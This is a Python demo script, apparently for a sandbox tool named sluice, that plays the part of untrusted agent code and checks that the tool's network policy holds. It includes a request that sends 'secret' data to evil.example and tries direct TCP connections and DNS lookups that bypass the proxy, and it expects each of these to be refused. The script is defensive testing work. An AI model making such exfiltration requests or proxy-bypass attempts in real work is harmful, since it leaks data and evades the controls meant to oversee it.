#!/usr/bin/env python3
"""The demo's "agent-generated code": runs inside `sluice run`.

It fetches data from the allowed upstream through the proxy (urllib honours HTTP_PROXY, which
sluice sets), tries a host the policy does not allow, tries to bypass the proxy with direct
connections, and writes its result to /output.
"""
import os
import socket
import sys
import urllib.error
import urllib.request

upstream = sys.argv[1]  # e.g. http://localhost:PORT
port = int(upstream.rsplit(":", 1)[1])


def step(title):
    print(f"\n[agent] {title}", flush=True)


step(f"GET {upstream}/data.csv through the proxy (allowed by rule 'local-stats')")
with urllib.request.urlopen(f"{upstream}/data.csv", timeout=10) as resp:
    rows = resp.read().decode().strip().splitlines()[1:]
total = sum(int(r.split(",")[1]) for r in rows)
print(f"[agent]   {len(rows)} regions, total sales {total}")

step("GET http://evil.example/exfil (no rule allows it)")
try:
    urllib.request.urlopen("http://evil.example/exfil?data=secret", timeout=10)
    print("[agent]   unexpectedly allowed!")
except urllib.error.HTTPError as e:
    body = e.read().decode(errors="replace").strip().replace("\n", " ")
    print(f"[agent]   refused by the proxy: HTTP {e.code}: {body[:200]}")

step("direct TCP connection to 1.1.1.1:443, bypassing the proxy")
try:
    socket.create_connection(("1.1.1.1", 443), timeout=3)
    print("[agent]   unexpectedly connected!")
except OSError as e:
    print(f"[agent]   failed: {e}")

step(f"direct TCP connection to the upstream itself, 127.0.0.1:{port}")
try:
    socket.create_connection(("127.0.0.1", port), timeout=3)
    print("[agent]   unexpectedly connected!")
except OSError as e:
    print(f"[agent]   failed: {e} (the host's loopback is another namespace)")

step("DNS lookup of example.com")
try:
    socket.getaddrinfo("example.com", 443)
    print("[agent]   unexpectedly resolved!")
except OSError as e:
    print(f"[agent]   failed: {e}")

step("writing /output/summary.txt")
with open("/output/summary.txt", "w") as f:
    f.write(f"regions={len(rows)} total_sales={total}\n")
print(f"[agent]   done (uid {os.getuid()}, cwd {os.getcwd()})")
